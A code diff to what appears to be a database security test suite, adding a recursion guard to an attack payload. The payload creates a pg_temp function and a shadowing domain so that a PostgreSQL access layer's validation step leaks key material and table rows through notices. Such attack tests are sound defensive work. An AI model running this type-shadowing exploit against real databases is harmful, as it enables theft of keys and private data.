@@ -43,10 +43,17 @@ function typeOfHers(type: string): Attack {
     `create function pg_temp.look(v pg_catalog.${type}) returns pg_catalog.bool language plpgsql as $$
          declare r pg_catalog.text;
          begin
+           -- What she looks at asks for the type again: once is enough.
+           if pg_catalog.current_setting('look.at', true) operator(pg_catalog.=) 'on' then return true; end if;
+           perform pg_catalog.set_config('look.at', 'on', false);
            for r in select 'key: ' || current_user || '1 rows seen' from ctx.key k loop raise notice '%', r; end loop;
            for r in select pg_catalog.to_jsonb(t)::pg_catalog.text from {table} t loop raise notice '%', r; end loop;
+           perform pg_catalog.set_config('look.at', '', false);
            return true;
-         exception when insufficient_privilege then return true; end $$`,
+         exception when insufficient_privilege then
+           perform pg_catalog.set_config('look.at', '', false);
+           return true;
+         end $$`,
     `create domain pg_temp.${type} as pg_catalog.${type} check (pg_temp.look(value))`,
     `select pg_catalog.set_config('ctx.claims', '${known.id}|' || pg_catalog.repeat('x', 200), false)`,
     'select ctx.valid()',
